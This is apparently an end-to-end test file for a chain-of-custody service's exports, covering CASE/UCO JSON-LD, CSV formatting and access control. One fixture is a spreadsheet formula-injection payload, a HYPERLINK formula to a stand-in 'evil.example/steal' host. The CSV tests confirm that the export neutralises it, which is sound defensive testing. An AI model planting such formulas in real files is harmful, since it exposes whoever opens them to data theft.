import type { NestExpressApplication } from '@nestjs/platform-express';
import jsonld from 'jsonld';
import request from 'supertest';
import type { DataSource } from 'typeorm';

import type { HistoryEvent } from '../../src/custody/item-history.service.js';
import type { ItemView } from '../../src/custody/item-records.js';
import {
  accept,
  hardDrive,
  phone,
  randomImei,
  recordHashes,
  registerImage,
  release,
  seize,
  signature,
  usernameOf,
} from '../factories/custody.factory.js';
import {
  bearer,
  createAgency,
  createUser,
  dataSourceOf,
  FACTORY_PASSWORD,
  login,
  type Session,
} from '../factories/identity.factory.js';
import { createTestApp } from '../utils/test-app.js';
import { createTestDatabase, type TestDatabase } from '../utils/test-database.js';

const DRIVE_SHA256 = '5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef';
const DRIVE_MD5 = '098f6bcd4621d373cade4e832627b4f6';
const IMAGE_SHA256 = 'a665a45920422f9d417e4867efdc4fb8a04a1f3fff1fa07e998e86f7f7a27ae3';
const WARRANT = 'JI-7 Madrid, auto 118/2026';
const SECOND_WARRANT = 'JI-7 Madrid, auto 119/2026';
const DISPOSAL_ORDER = 'JI-7 Madrid, auto 311/2027';
const HYPERLINK = '=HYPERLINK("http://evil.example/steal?x=1","Open the evidence list")';

const CI = 'https://ontology.caseontology.org/case/investigation/';
const UCO = 'https://ontology.unifiedcyberontology.org/uco/';
const XSD = 'http://www.w3.org/2001/XMLSchema#';
const CUSTOS = 'urn:custos:vocab:';
const core = (term: string) => `${UCO}core/${term}`;
const action = (term: string) => `${UCO}action/${term}`;
const observable = (term: string) => `${UCO}observable/${term}`;
const types = (term: string) => `${UCO}types/${term}`;

/** Every class the export may use (docs/exports.md): nothing else may appear. */
const EXPECTED_TYPES = new Set([
  `${CI}Investigation`,
  `${CI}InvestigativeAction`,
  `${CI}ProvenanceRecord`,
  `${CI}Authorization`,
  `${UCO}identity/Person`,
  `${UCO}identity/Organization`,
  `${UCO}location/Location`,
  `${UCO}tool/Tool`,
  core('Relationship'),
  observable('Device'),
  observable('MobileDevice'),
  observable('SIMCard'),
  observable('Image'),
  observable('ObservableObject'),
  observable('ObservableRelationship'),
  observable('ContentData'),
  observable('DeviceFacet'),
  observable('MobileDeviceFacet'),
  observable('SIMCardFacet'),
  observable('MACAddressFacet'),
  observable('StorageMediumFacet'),
  observable('ContentDataFacet'),
  types('Hash'),
]);

/** An expanded JSON-LD node object: every property an array of values or references. */
type ExpandedNode = { '@id': string; '@type': string[] } & Record<
  string,
  Array<{ '@id'?: string; '@value'?: unknown; '@type'?: string }>
>;

/** Offline: the export must expand with nothing fetched (its context is inline). */
const refuseNetwork = (url: string): Promise<never> => Promise.reject(new Error(`the export asked to fetch ${url}`));

/** RFC 4180: fields separated by commas, records by CRLF, quoted fields with "" for a quote. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else if (c === '\r' || c === '\n') throw new Error(`bare line break at ${i}: records end with CRLF`);
    else field += c;
  }
  if (field !== '' || record.length > 0) throw new Error('the last record does not end with CRLF');
  return records;
}

const who = (party: { displayName: string; agency: string | null } | null): string =>
  party === null ? '' : `${party.displayName} (${party.agency ?? 'no agency'})`;

/**
 * Exports, black-box: custody is built through the API as users make it, then exported as
 * CASE/UCO JSON-LD and CSV by people who may read the case, and read back as another agency's tool
 * or a spreadsheet would: the JSON-LD expands offline into the CASE structure, each exhibit's
 * provenance chain follows the item's history; the CSV parses back into the history's rows.
 */
describe('exports: CASE/UCO JSON-LD and custody CSV', () => {
  let database: TestDatabase;
  let app: NestExpressApplication;
  let db: DataSource;
  let officer: Session;
  let clerk: Session;
  let examiner: Session;
  let prosecutor: Session;
  let auditor: Session;
  let outsider: Session;
  let admin: Session;
  let caseId: string;
  let phoneItem: ItemView;
  let drive: ItemView;
  let sim: ItemView;
  let laptop: ItemView;
  let image: ItemView;
  let imeis: string[];

  const api = () => request(app.getHttpServer());
  const history = async (id: string): Promise<HistoryEvent[]> =>
    (
      (await api().get(`/api/v1/items/${id}/history`).set(bearer(prosecutor)).expect(200)).body as {
        events: HistoryEvent[];
      }
    ).events;
  const binary = (req: request.Test): request.Test =>
    req.buffer(true).parse((res, callback) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => callback(null, Buffer.concat(chunks)));
    });

  beforeAll(async () => {
    database = await createTestDatabase();
    app = await createTestApp({ databaseUrl: database.appUrl });
    db = dataSourceOf(app);
    const spain = await createAgency(db, { code: 'ES-PN', name: 'Policía Nacional', country: 'ES' });
    const argentina = await createAgency(db, { code: 'AR-PFA', name: 'Policía Federal Argentina', country: 'AR' });
    const portugal = await createAgency(db, { code: 'PT-MP', name: 'Ministério Público', country: 'PT' });
    const germany = await createAgency(db, { code: 'DE-BKA', name: 'Bundeskriminalamt', country: 'DE' });
    officer = await login(app, await createUser(db, spain, { roles: ['officer'], displayName: 'Ana Morales' }));
    clerk = await login(app, await createUser(db, spain, { roles: ['clerk'], displayName: 'Luis García' }));
    auditor = await login(app, await createUser(db, spain, { roles: ['auditor'], displayName: 'Marta Ruiz' }));
    examiner = await login(
      app,
      await createUser(db, argentina, { roles: ['examiner'], displayName: 'Julieta Ferreira' }),
    );
    prosecutor = await login(
      app,
      await createUser(db, portugal, { roles: ['prosecutor'], displayName: 'Rui Tavares' }),
    );
    outsider = await login(app, await createUser(db, germany, { roles: ['examiner'] }));
    admin = await login(app, await createUser(db, spain, { roles: ['admin'] }));
    caseId = (
      await api()
        .post('/api/v1/cases')
        .set(bearer(officer))
        .send({ caseNumber: 'OP-TORMENTA/7', title: 'Operación Tormenta', legalAuthority: [WARRANT, SECOND_WARRANT] })
        .expect(201)
    ).body.id;
    await api()
      .post(`/api/v1/cases/${caseId}/shares`)
      .set(bearer(officer))
      .send({ agencyCode: 'AR-PFA', access: 'contribute' })
      .expect(201);
    await api()
      .post(`/api/v1/cases/${caseId}/shares`)
      .set(bearer(officer))
      .send({ agencyCode: 'PT-MP', access: 'read' })
      .expect(201);

    // The story: a seizure of four devices, storage, a lab abroad, hashes, an image, a broken seal,
    // a rejected hand-over, a disposal under a court order and a correction.
    imeis = [randomImei(), randomImei()];
    [phoneItem, drive, sim, laptop] = await seize(app, officer, caseId, [
      phone({ imeis, legalAuthority: WARRANT }),
      hardDrive({ description: HYPERLINK }),
      {
        kind: 'sim_card',
        description: 'SIM in the phone',
        iccid: '8944500102198304826',
        parentIndex: 0,
        occurredAt: '2026-11-20T09:15:00+01:00',
        place: 'Calle Mayor 12, Madrid',
      },
      {
        kind: 'laptop',
        description: 'Grey laptop',
        make: 'Lenovo',
        model: 'ThinkPad T14',
        serial: 'PF3XK2L9',
        macAddresses: ['00-1A-2B-3C-4D-5E'],
        occurredAt: '2026-11-20T09:50:00+01:00',
        place: 'Calle Mayor 12, Madrid — study',
      },
    ]);
    const toStorage = await release(
      app,
      officer,
      [phoneItem.id, drive.id, sim.id, laptop.id],
      clerk,
      '+SUM(1,2) storage\nsecond line, "as agreed"',
    );
    await accept(app, clerk, toStorage, { location: 'Madrid/HQ/Intake' });
    await api()
      .post(`/api/v1/items/${drive.id}/location`)
      .set(bearer(clerk))
      .send({ location: 'Madrid/HQ/Room 2/Shelf B', reason: '-1 shelf swap' })
      .expect(200);
    const toLab = await release(app, clerk, [phoneItem.id, drive.id], examiner, 'Forensic acquisition');
    await accept(app, examiner, toLab, { location: 'Buenos Aires/Lab/Safe 2' });
    await recordHashes(app, examiner, drive.id, {
      target: 'device',
      hashes: [
        { algorithm: 'sha256', value: DRIVE_SHA256 },
        { algorithm: 'md5', value: DRIVE_MD5 },
      ],
      tool: 'Tableau TX1',
      toolVersion: '22.3',
      occurredAt: '2026-11-22T10:02:00-03:00',
      signature: signature('acquired'),
    });
    image = await registerImage(app, examiner, caseId, drive.id, IMAGE_SHA256);
    await recordHashes(app, examiner, drive.id, {
      target: 'device',
      hashes: [{ algorithm: 'sha256', value: DRIVE_SHA256 }],
      tool: 'ewfverify',
      occurredAt: '2026-11-23T09:00:00-03:00',
    });
    const back = await release(app, examiner, [drive.id, image.id, phoneItem.id], clerk, 'Return after examination');
    await accept(app, clerk, back, {
      location: 'Madrid/HQ/Room 2',
      statements: {
        [image.id]: { sealIntact: false, sealNote: 'Bag torn at lower seam' },
        [drive.id]: { sealIntact: true, hashes: [{ target: 'device', algorithm: 'sha256', value: DRIVE_SHA256 }] },
      },
    });
    const refused = await release(app, clerk, [sim.id], officer, 'Court viewing');
    await api()
      .post(`/api/v1/transfers/${refused.id}/reject`)
      .set(bearer(officer))
      .send({ reason: 'Seal number differs from the sheet', signature: signature('rejected') })
      .expect(200);
    await api()
      .post(`/api/v1/items/${phoneItem.id}/disposition`)
      .set(bearer(clerk))
      .send({
        disposition: 'returned_to_owner',
        authorityReference: DISPOSAL_ORDER,
        recipient: 'Owner receipt 2027/55',
        occurredAt: '2026-11-27T11:00:00+01:00',
        witness: { username: usernameOf(officer), password: FACTORY_PASSWORD },
        signature: signature('disposed'),
      })
      .expect(200);
    const registration = (await history(drive.id))[0];
    await api()
      .post(`/api/v1/items/${drive.id}/corrections`)
      .set(bearer(officer))
      .send({
        corrects: registration.ledgerIndex,
        reason: 'Serial misread at the scene',
        changes: { serial: 'ZFL0CORRECT' },
        signature: signature('corrected'),
      })
      .expect(201);
  });

  afterAll(async () => {
    await app.close();
    await database.drop();
  });

  describe('CASE/UCO JSON-LD', () => {
    let document: { '@context': unknown; '@graph': Array<Record<string, unknown>> };
    let expanded: ExpandedNode[];
    /** Every node of the expanded graph, nested ones (facets, hashes) too, by id. */
    const nodes = new Map<string, ExpandedNode>();
    const ofType = (type: string): ExpandedNode[] => [...nodes.values()].filter((node) => node['@type'].includes(type));
    const refsOf = (node: ExpandedNode, property: string): string[] =>
      (node[property] ?? []).map((value) => value['@id']!);
    const valueOf = (node: ExpandedNode, property: string): unknown => node[property]?.[0]?.['@value'];
    const valuesOf = (node: ExpandedNode, property: string): unknown[] =>
      (node[property] ?? []).map((value) => value['@value']);

    beforeAll(async () => {
      const response = await api()
        .get(`/api/v1/cases/${caseId}/export?format=case`)
        .set(bearer(prosecutor))
        .expect(200);
      expect(response.headers['content-type']).toMatch(/^application\/ld\+json/);
      expect(response.headers['content-disposition']).toBe(
        'attachment; filename="OP-TORMENTA_7.case-uco.jsonld"; filename*=UTF-8\'\'OP-TORMENTA%2F7.case-uco.jsonld',
      );
      document = response.body as typeof document;
      expanded = (await jsonld.expand(document as never, {
        documentLoader: refuseNetwork,
      })) as unknown as ExpandedNode[];
      const visit = (value: unknown): void => {
        if (Array.isArray(value)) return value.forEach(visit);
        if (value === null || typeof value !== 'object' || '@value' in value) return;
        const node = value as ExpandedNode;
        if (Object.keys(node).some((key) => key !== '@id')) nodes.set(node['@id'], node);
        for (const [key, member] of Object.entries(node)) if (!key.startsWith('@')) visit(member);
      };
      visit(expanded);
    });

    it('has an inline context with the CASE/UCO prefixes and expands with nothing fetched', () => {
      expect(document['@context']).toMatchObject({
        'case-investigation': CI,
        'uco-core': core(''),
        'uco-observable': observable(''),
        'uco-action': action(''),
        xsd: XSD,
        kb: 'urn:custos:test.custos.invalid/ledger:',
      });
      expect(expanded.length).toBe(document['@graph'].length);
    });

    it('every node has an @id (no blank nodes) and an @type of the CASE/UCO classes; every link resolves', () => {
      for (const node of document['@graph']) {
        expect(typeof node['@id']).toBe('string');
        expect(typeof node['@type']).toBe('string');
      }
      const used = new Set<string>();
      for (const node of nodes.values()) {
        expect(node['@id']).toMatch(/^urn:custos:test\.custos\.invalid\/ledger:[a-z-]+-/);
        expect(node['@type'].length).toBeGreaterThan(0);
        node['@type'].forEach((type) => used.add(type));
        for (const [key, values] of Object.entries(node)) {
          if (key.startsWith('@')) continue;
          for (const value of values as Array<{ '@id'?: string }>)
            if (value['@id'] !== undefined) expect(nodes.has(value['@id'])).toBe(true);
        }
      }
      expect([...used].filter((type) => !EXPECTED_TYPES.has(type))).toEqual([]);
      for (const type of [
        `${CI}Investigation`,
        `${CI}InvestigativeAction`,
        `${CI}ProvenanceRecord`,
        `${CI}Authorization`,
        observable('ContentData'),
        types('Hash'),
      ]) {
        expect(used).toContain(type);
      }
      expect(new Set(document['@graph'].map((node) => node['@id'])).size).toBe(document['@graph'].length);
    });

    it('the case is an Investigation listing its actions and provenance records, under its warrants', () => {
      const [investigation] = ofType(`${CI}Investigation`);
      expect(valueOf(investigation, core('name'))).toBe('OP-TORMENTA/7');
      expect(valueOf(investigation, `${CI}focus`)).toBe('Operación Tormenta');
      const members = new Set(refsOf(investigation, core('object')));
      for (const node of [...ofType(`${CI}InvestigativeAction`), ...ofType(`${CI}ProvenanceRecord`)])
        expect(members).toContain(node['@id']);
      const authorizations = ofType(`${CI}Authorization`);
      const warrant = authorizations.find((node) => valueOf(node, `${CI}authorizationIdentifier`) === WARRANT)!;
      expect(valueOf(warrant, `${CI}authorizationType`)).toBe('warrant');
      expect(refsOf(investigation, `${CI}relevantAuthorization`)).toEqual(
        expect.arrayContaining(authorizations.map((node) => node['@id'])),
      );
    });

    it('devices carry their identifiers: IMEIs, serial (as corrected), ICCID, MAC address, capacity', () => {
      const facet = (item: ItemView, type: string): ExpandedNode => {
        const device = nodes.get(`urn:custos:test.custos.invalid/ledger:item-${item.id}`)!;
        expect(valueOf(device, core('name'))).toBe(item.itemNumber);
        return refsOf(device, core('hasFacet'))
          .map((id) => nodes.get(id)!)
          .find((node) => node['@type'].includes(observable(type)))!;
      };
      expect(nodes.get(`urn:custos:test.custos.invalid/ledger:item-${phoneItem.id}`)!['@type']).toEqual([
        observable('MobileDevice'),
      ]);
      expect(valuesOf(facet(phoneItem, 'MobileDeviceFacet'), observable('IMEI')).sort()).toEqual([...imeis].sort());
      expect(valueOf(facet(phoneItem, 'DeviceFacet'), observable('serialNumber'))).toBe(phoneItem.serial);
      const maker = nodes.get(refsOf(facet(phoneItem, 'DeviceFacet'), observable('manufacturer'))[0])!;
      expect(maker['@type']).toEqual([`${UCO}identity/Organization`]);
      expect(valueOf(maker, core('name'))).toBe('Samsung');
      expect(valueOf(facet(drive, 'DeviceFacet'), observable('serialNumber'))).toBe('ZFL0CORRECT');
      expect(facet(drive, 'StorageMediumFacet')[observable('totalStorageCapacityInBytes')]).toEqual([
        { '@type': `${XSD}integer`, '@value': '2000398934016' },
      ]);
      expect(nodes.get(`urn:custos:test.custos.invalid/ledger:item-${sim.id}`)!['@type']).toEqual([
        observable('SIMCard'),
      ]);
      expect(valueOf(facet(sim, 'SIMCardFacet'), observable('ICCID'))).toBe('8944500102198304826');
      expect(valueOf(facet(laptop, 'MACAddressFacet'), observable('addressValue'))).toBe('00:1a:2b:3c:4d:5e');
      const imageNode = nodes.get(`urn:custos:test.custos.invalid/ledger:item-${image.id}`)!;
      expect(imageNode['@type']).toEqual([observable('Image')]);
      expect(refsOf(imageNode, `${CI}wasDerivedFrom`)).toEqual([
        `urn:custos:test.custos.invalid/ledger:item-${drive.id}`,
      ]);
    });

    it('acquisitions and verifications carry ContentData hashes with their methods; a verification says its result', () => {
      const hashesOf = (
        contentData: ExpandedNode,
      ): Array<{ method: unknown; methodType: unknown; value: unknown; valueType: unknown; result: unknown }> =>
        refsOf(contentData, core('hasFacet'))
          .map((id) => nodes.get(id)!)
          .flatMap((facet) => refsOf(facet, observable('hash')).map((id) => nodes.get(id)!))
          .map((hash) => ({
            method: valueOf(hash, types('hashMethod')),
            methodType: hash[types('hashMethod')][0]['@type'],
            value: valueOf(hash, types('hashValue')),
            valueType: hash[types('hashValue')][0]['@type'],
            result: valueOf(hash, `${CUSTOS}verificationResult`),
          }));
      const actions = ofType(`${CI}InvestigativeAction`);
      const byName = (name: string) => actions.filter((node) => valueOf(node, core('name')) === name);
      const results = (node: ExpandedNode) =>
        refsOf(node, action('result'))
          .map((id) => nodes.get(id)!)
          .filter((n) => n['@type'].includes(observable('ContentData')));
      const [reference] = byName('hashed');
      expect(hashesOf(results(reference)[0])).toEqual(
        expect.arrayContaining([
          {
            method: 'SHA256',
            methodType: `${UCO}vocabulary/HashNameVocab`,
            value: DRIVE_SHA256,
            valueType: `${XSD}hexBinary`,
            result: undefined,
          },
          {
            method: 'MD5',
            methodType: `${UCO}vocabulary/HashNameVocab`,
            value: DRIVE_MD5,
            valueType: `${XSD}hexBinary`,
            result: undefined,
          },
        ]),
      );
      const tool = nodes.get(refsOf(reference, action('instrument'))[0])!;
      expect(tool['@type']).toEqual([`${UCO}tool/Tool`]);
      expect(valueOf(tool, core('name'))).toBe('Tableau TX1');
      const [verification] = byName('verified');
      expect(hashesOf(results(verification)[0])).toEqual([
        expect.objectContaining({ method: 'SHA256', value: DRIVE_SHA256, result: 'match' }),
      ]);
      const [acquisition] = byName('acquired');
      expect(hashesOf(results(acquisition)[0])).toEqual([
        expect.objectContaining({ method: 'SHA256', value: IMAGE_SHA256 }),
      ]);
    });

    it('each exhibit’s provenance records chain through its actions in the order of its history', async () => {
      const actions = ofType(`${CI}InvestigativeAction`);
      const records = ofType(`${CI}ProvenanceRecord`);
      for (const item of [phoneItem, drive, sim, laptop, image]) {
        const mine = new Set(
          records
            .filter((record) => valueOf(record, `${CI}exhibitNumber`) === item.itemNumber)
            .map((record) => record['@id']),
        );
        const chain: Array<{ ledgerIndex: unknown; leafHash: unknown }> = [];
        let current: string | undefined;
        for (;;) {
          const next = actions.find((node) => {
            const objects = refsOf(node, action('object'));
            if (!refsOf(node, action('result')).some((id) => mine.has(id))) return false;
            return current === undefined ? !objects.some((id) => mine.has(id)) : objects.includes(current);
          });
          if (next === undefined) break;
          chain.push({
            ledgerIndex: valueOf(next, `${CUSTOS}ledgerIndex`),
            leafHash: valueOf(next, `${CUSTOS}leafHash`),
          });
          current = refsOf(next, action('result')).find((id) => mine.has(id))!;
          const record = nodes.get(current)!;
          expect(valueOf(record, `${CUSTOS}ledgerIndex`)).toBe(valueOf(next, `${CUSTOS}ledgerIndex`));
          expect(refsOf(record, core('object'))).toContain(`urn:custos:test.custos.invalid/ledger:item-${item.id}`);
        }
        const events = await history(item.id);
        expect(chain).toEqual(events.map((event) => ({ ledgerIndex: event.ledgerIndex, leafHash: event.leafHash })));
        expect(mine.size).toBe(events.length);
      }
      const imageRecord = records.find((record) => valueOf(record, `${CI}exhibitNumber`) === image.itemNumber)!;
      expect(valueOf(imageRecord, `${CI}rootExhibitNumber`)).toBe(drive.itemNumber);
    });

    it('actions name their performer, time and place; seizures cite the warrant, the disposal its order', () => {
      const actions = ofType(`${CI}InvestigativeAction`);
      const seizureOf = (item: ItemView) =>
        actions.find(
          (node) =>
            valueOf(node, core('name')) === 'seized' &&
            refsOf(node, action('result')).includes(`urn:custos:test.custos.invalid/ledger:item-${item.id}`),
        )!;
      const phoneSeizure = seizureOf(phoneItem);
      expect(phoneSeizure[action('startTime')]).toEqual([
        { '@type': `${XSD}dateTime`, '@value': '2026-11-20T09:14:00+01:00' },
      ]);
      const performer = nodes.get(refsOf(phoneSeizure, action('performer'))[0])!;
      expect(performer['@type']).toEqual([`${UCO}identity/Person`]);
      expect(valueOf(performer, core('name'))).toBe('Ana Morales');
      expect(valueOf(nodes.get(refsOf(phoneSeizure, action('location'))[0])!, core('name'))).toBe(
        'Calle Mayor 12, Madrid — bedroom',
      );
      const instrumentsOf = (node: ExpandedNode) => refsOf(node, action('instrument')).map((id) => nodes.get(id)!);
      expect(
        instrumentsOf(phoneSeizure).map((node) => [node['@type'][0], valueOf(node, `${CI}authorizationIdentifier`)]),
      ).toEqual([[`${CI}Authorization`, WARRANT]]);
      // The drive was registered without its own reference: the case's warrants authorised it.
      expect(
        instrumentsOf(seizureOf(drive))
          .map((node) => valueOf(node, `${CI}authorizationIdentifier`))
          .sort(),
      ).toEqual([WARRANT, SECOND_WARRANT]);
      const disposal = actions.find((node) => valueOf(node, core('name')) === 'disposed')!;
      expect(instrumentsOf(disposal).map((node) => valueOf(node, `${CI}authorizationIdentifier`))).toEqual([
        DISPOSAL_ORDER,
      ]);
      expect(refsOf(disposal, action('participant')).map((id) => valueOf(nodes.get(id)!, core('name')))).toEqual([
        'Ana Morales',
      ]);
      expect(valueOf(disposal, core('description'))).toMatch(
        /Luis García \(clerk, ES-PN\) disposed at .*Ana Morales \(officer, ES-PN\) witnessed at/,
      );
      const receipt = actions.find(
        (node) =>
          valueOf(node, core('name')) === 'received' &&
          refsOf(node, action('result')).some((id) => id.includes(image.id)),
      )!;
      expect(valueOf(receipt, core('description'))).toMatch(
        new RegExp(`${image.itemNumber} seal BROKEN \\(Bag torn at lower seam\\)`),
      );
      expect(valueOf(nodes.get(refsOf(receipt, action('performer'))[0])!, core('name'))).toBe('Luis García');
    });

    it('is stable: exporting again gives the same document', async () => {
      const again = await api().get(`/api/v1/cases/${caseId}/export?format=case`).set(bearer(clerk)).expect(200);
      expect(again.body).toEqual(document);
    });
  });

  describe('custody CSV', () => {
    const cellsOf = (header: string[], record: string[]): Record<string, string> =>
      Object.fromEntries(header.map((name, n) => [name, record[n]]));
    const expectedRow = (event: HistoryEvent) => ({
      'Ledger index': String(event.ledgerIndex),
      'Recorded at (UTC)': event.recordedAt,
      'Occurred at (local time, UTC offset)': event.occurredAt ?? '',
      Event: event.type,
      'From (name, agency)': who(event.from),
      'To (name, agency)': who(event.to),
      Purpose: event.purpose ?? '',
      Location: event.location ?? '',
      'Seal number': event.seal?.number ?? '',
      'Seal intact': event.seal?.intact === true ? 'yes' : event.seal?.intact === false ? 'no' : '',
      'Seal note': event.seal?.note ?? '',
      'Hash target': event.hashes.map((hash) => hash.target).join('; '),
      'Hash algorithm': event.hashes.map((hash) => hash.algorithm).join('; '),
      'Hash value': event.hashes.map((hash) => hash.value).join('; '),
      'Hash result': event.hashes.map((hash) => hash.result ?? 'reference').join('; '),
      Signatures: event.signatures
        .map((s) => `${s.printedName} (${s.role}, ${s.agency ?? 'no agency'}) ${s.meaning} at ${s.signedAt}`)
        .join('; '),
      Reason: event.reason ?? '',
      'Leaf hash (SHA-256)': event.leafHash,
    });
    /** What a spreadsheet shows for a cell the export neutralised. */
    const shown = (value: string): string => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

    it('an item’s table: UTF-8 with BOM, CRLF, RFC 4180, one row per history event with its facts', async () => {
      const response = await binary(api().get(`/api/v1/items/${drive.id}/custody.csv`).set(bearer(auditor))).expect(
        200,
      );
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe(`attachment; filename="${drive.itemNumber}-custody.csv"`);
      const bytes = response.body as Buffer;
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const [header, ...records] = parseCsv(bytes.subarray(3).toString('utf8'));
      expect(header.slice(0, 3)).toEqual(['Item number', 'Item description', 'Ledger index']);
      const events = await history(drive.id);
      expect(records).toHaveLength(events.length);
      events.forEach((event, n) => {
        const row = cellsOf(header, records[n]);
        const expected = expectedRow(event);
        expect(row).toMatchObject({
          ...expected,
          Purpose: shown(expected.Purpose),
          Reason: shown(expected.Reason),
          'Item number': drive.itemNumber,
        });
        expect(row['Recorded by']).toBe(`${event.actor!.displayName} (${event.actor!.role}, ${event.actor!.agency})`);
      });
      const byType = (type: string) =>
        records.map((record) => cellsOf(header, record)).filter((row) => row.Event === type);
      expect(byType('item.corrected')[0].Details).toBe(
        `corrects entry ${events[0].ledgerIndex}; serial: "${drive.serial}" → "ZFL0CORRECT"`,
      );
      expect(byType('item.seized')[0].Details).toMatch(/corrected by entry \d+ \(Serial misread at the scene\)$/);
      expect(byType('hash.recorded').map((row) => row['Hash result'])).toEqual(['reference; reference', 'match']);
    });

    it('neutralises formulas: a description, purpose or reason that starts with = + - @ is prefixed with an apostrophe', async () => {
      const response = await binary(api().get(`/api/v1/items/${drive.id}/custody.csv`).set(bearer(clerk))).expect(200);
      const text = (response.body as Buffer).toString('utf8');
      const [header, ...records] = parseCsv(text.slice(1));
      const rows = records.map((record) => cellsOf(header, record));
      expect(rows.every((row) => row['Item description'] === `'${HYPERLINK}`)).toBe(true);
      expect(rows.find((row) => row.Event === 'transfer.released')!.Purpose).toBe(
        `'+SUM(1,2) storage\nsecond line, "as agreed"`,
      );
      expect(rows.find((row) => row.Event === 'item.moved')!.Reason).toBe(`'-1 shelf swap`);
      // Not one cell of the file starts a formula.
      for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      // The raw bytes quote the cell (it holds quotes and a comma) and double its quotes.
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal?x=1"",""Open the evidence list"")"`);
    });

    it('a case’s table: every item’s rows, item by item, each in ledger order', async () => {
      const response = await binary(api().get(`/api/v1/cases/${caseId}/custody.csv`).set(bearer(prosecutor))).expect(
        200,
      );
      expect(response.headers['content-disposition']).toBe(
        'attachment; filename="OP-TORMENTA_7-custody.csv"; filename*=UTF-8\'\'OP-TORMENTA%2F7-custody.csv',
      );
      const [header, ...records] = parseCsv((response.body as Buffer).subarray(3).toString('utf8'));
      const rows = records.map((record) => cellsOf(header, record));
      const items = [phoneItem, drive, sim, laptop, image].sort((a, b) => a.itemNumber.localeCompare(b.itemNumber));
      expect([...new Set(rows.map((row) => row['Item number']))]).toEqual(items.map((item) => item.itemNumber));
      for (const item of items) {
        const events = await history(item.id);
        const mine = rows.filter((row) => row['Item number'] === item.itemNumber);
        expect(mine.map((row) => row['Ledger index'])).toEqual(events.map((event) => String(event.ledgerIndex)));
        events.forEach((event, n) => {
          const expected = expectedRow(event);
          expect(mine[n]).toMatchObject({
            ...expected,
            Purpose: shown(expected.Purpose),
            Reason: shown(expected.Reason),
          });
        });
      }
      const released = rows.find((row) => row['Item number'] === sim.itemNumber && row.Event === 'transfer.rejected')!;
      expect(released).toMatchObject({
        Reason: 'Seal number differs from the sheet',
        'To (name, agency)': 'Ana Morales (ES-PN)',
      });
      const disposal = rows.find((row) => row.Event === 'item.disposed')!;
      expect(disposal.Details).toBe(
        `returned to owner under ${DISPOSAL_ORDER}; witnessed by Ana Morales (ES-PN); recipient Owner receipt 2027/55`,
      );
      expect(disposal.Signatures).toMatch(
        /^Luis García \(clerk, ES-PN\) disposed at \S+; Ana Morales \(officer, ES-PN\) witnessed at \S+$/,
      );
    });
  });

  describe('who may export', () => {
    it('someone who may not see the case gets 404 as for the case or item itself; an administrator 403', async () => {
      const refusals: Array<[string, string]> = [
        [`/api/v1/cases/${caseId}/export?format=case`, 'case_not_found'],
        [`/api/v1/cases/${caseId}/custody.csv`, 'case_not_found'],
        [`/api/v1/items/${drive.id}/custody.csv`, 'item_not_found'],
      ];
      for (const [path, code] of refusals) {
        const hidden = await api().get(path).set(bearer(outsider)).expect(404);
        expect(hidden.body.code).toBe(code);
        expect(hidden.headers['content-type']).toMatch(/^application\/problem\+json/);
        const refused = await api().get(path).set(bearer(admin)).expect(403);
        expect(refused.body.code).toBe('role_forbidden');
        await api().get(path).expect(401);
      }
      expect((await api().get('/api/v1/cases/not-a-uuid/custody.csv').set(bearer(clerk)).expect(404)).body.code).toBe(
        'case_not_found',
      );
    });

    it('an unknown format is refused; without one, the export is CASE/UCO', async () => {
      const unknown = await api().get(`/api/v1/cases/${caseId}/export?format=stix`).set(bearer(clerk)).expect(400);
      expect(unknown.body.code).toBe('validation_failed');
      const named = await api().get(`/api/v1/cases/${caseId}/export?format=case`).set(bearer(clerk)).expect(200);
      const unnamed = await api().get(`/api/v1/cases/${caseId}/export`).set(bearer(clerk)).expect(200);
      expect(unnamed.body).toEqual(named.body);
    });

    it('every export is in the access log as a custody history read, with its format', async () => {
      const rows = (
        await api().get('/api/v1/access-log?event=custody_history.read&limit=500').set(bearer(auditor)).expect(200)
      ).body.entries as Array<{
        actor: { username: string };
        subject: { type: string; id: string };
        details: Record<string, unknown>;
      }>;
      const exports = rows.filter((row) => row.details.export !== undefined);
      expect(exports).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            actor: expect.objectContaining({ username: usernameOf(prosecutor) }),
            subject: expect.objectContaining({ type: 'case', id: caseId }),
            details: { export: 'case-uco' },
          }),
          expect.objectContaining({
            actor: expect.objectContaining({ username: usernameOf(auditor) }),
            subject: expect.objectContaining({ type: 'item', id: drive.id }),
            details: { export: 'csv' },
          }),
          expect.objectContaining({
            actor: expect.objectContaining({ username: usernameOf(prosecutor) }),
            subject: expect.objectContaining({ type: 'case', id: caseId }),
            details: { export: 'csv' },
          }),
        ]),
      );
    });
  });
});
